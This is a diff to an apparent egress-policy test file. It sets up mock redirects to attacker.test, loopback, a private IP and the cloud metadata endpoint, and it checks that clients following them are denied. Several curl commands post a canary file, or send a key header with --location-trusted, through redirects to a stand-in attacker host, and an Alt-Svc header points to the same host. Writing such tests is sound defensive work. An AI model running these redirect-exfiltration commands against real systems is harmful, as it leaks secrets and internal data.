@@ -1,17 +1,54 @@
 # Answers that lead elsewhere: each new request is judged for itself.
 
+service "redirects" {
+  host = "redirect.example.com"
+  respond {
+    path    = "/to/attacker"
+    status  = 302
+    headers = { Location = "https://attacker.test/" }
+  }
+  respond {
+    path    = "/to/loopback"
+    status  = 302
+    headers = { Location = "http://127.0.0.1:8080/" }
+  }
+  respond {
+    path    = "/to/metadata"
+    status  = 302
+    headers = { Location = "http://169.254.169.254/latest/" }
+  }
+  respond {
+    path    = "/to/clear"
+    status  = 301
+    headers = { Location = "http://attacker.test/" }
+  }
+  respond {
+    path    = "/to/private"
+    status  = 303
+    headers = { Location = "http://10.0.0.7/" }
+  }
+  respond {
+    path    = "/to/port"
+    status  = 307
+    headers = { Location = "https://attacker.test:8443/" }
+  }
+  respond {
+    path    = "/to/kept"
+    status  = 308
+    headers = { Location = "https://attacker.test/upload" }
+  }
+  respond {
+    path    = "/to/item"
+    status  = 302
+    headers = { Location = "https://echo.example.com/v1/items/7" }
+  }
+}
+
 scenario "redirect-to-where-nothing-is-granted" {
-  describe = "a granted host answers 302, and the client follows with all that it has"
+  describe = "a granted host answers with another address, and the client follows with all that it has"
   cases    = ["REDIR-01", "CRED-04", "CRED-05", "HOST-12", "USE-17"]
   policy   = "policies/web.hcl"
-  for_each = {
-    attacker = "https://attacker.test/"
-    loopback = "http://127.0.0.1/"
-    metadata = "http://169.254.169.254/latest/"
-    plain    = "http://attacker.test/"
-    private  = "http://10.0.0.7/"
-    port     = "https://attacker.test:8443/"
-  }
+  for_each = ["attacker", "metadata", "clear", "private", "port"]
   attempt {
     http {
       url     = "https://redirect.example.com/to/${each.value}"
@@ -20,6 +57,7 @@ scenario "redirect-to-where-nothing-is-granted" {
     }
   }
   expect {
+    verdict = "deny"
     leak    = none
     arrives = ["GET https://redirect.example.com/to/${each.value}"]
   }
@@ -34,7 +72,7 @@ scenario "redirect-that-keeps-a-body" {
     file "notes.txt" { text = canary.token }
   }
   attempt {
-    run { command = ["curl", "-sS", "-L", "--post301", "--post302", "--post303", "-X", "POST", "--data-binary", "@notes.txt", "https://redirect.example.com/to/https://attacker.test/"] }
+    run { command = ["curl", "-sS", "-L", "--data-binary", "@notes.txt", "https://redirect.example.com/to/kept"] }
   }
   expect {
     verdict = "deny"
@@ -51,20 +89,19 @@ scenario "redirect-with-headers-that-hold-keys" {
     env = { KEY = canary.key }
   }
   attempt {
-    run { command = ["sh", "-c", "curl -sS -L --location-trusted -H \"X-Note: $KEY\" https://redirect.example.com/to/https://attacker.test/"] }
+    run { command = ["sh", "-c", "curl -sS -L --location-trusted -H \"X-Note: $KEY\" https://redirect.example.com/to/attacker"] }
   }
   expect {
     verdict = "deny"
     reason  = "no_grant"
     leak    = none
-    arrives = ["GET https://redirect.example.com/to/https://attacker.test/"]
+    arrives = ["GET https://redirect.example.com/to/attacker"]
   }
 }
 
 service "host that advertises another endpoint" {
   host = "internal.example.com"
   respond {
-    path    = "/*"
     headers = { Alt-Svc = "h3=\"attacker.test:443\"; ma=86400, h2=\"attacker.test:8443\"" }
     body    = "{}"
   }
